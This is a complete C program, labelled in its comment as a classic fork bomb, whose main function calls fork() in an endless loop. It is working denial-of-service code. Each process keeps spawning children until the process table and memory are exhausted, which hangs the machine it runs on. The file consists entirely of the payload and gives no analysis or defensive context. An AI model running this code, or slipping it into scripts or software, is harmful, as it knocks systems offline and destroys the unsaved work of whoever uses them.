// Classic fork bomb in C: every process keeps forking, and each child spins.
#include <unistd.h>
int main(void) {
    for (;;) fork();
}
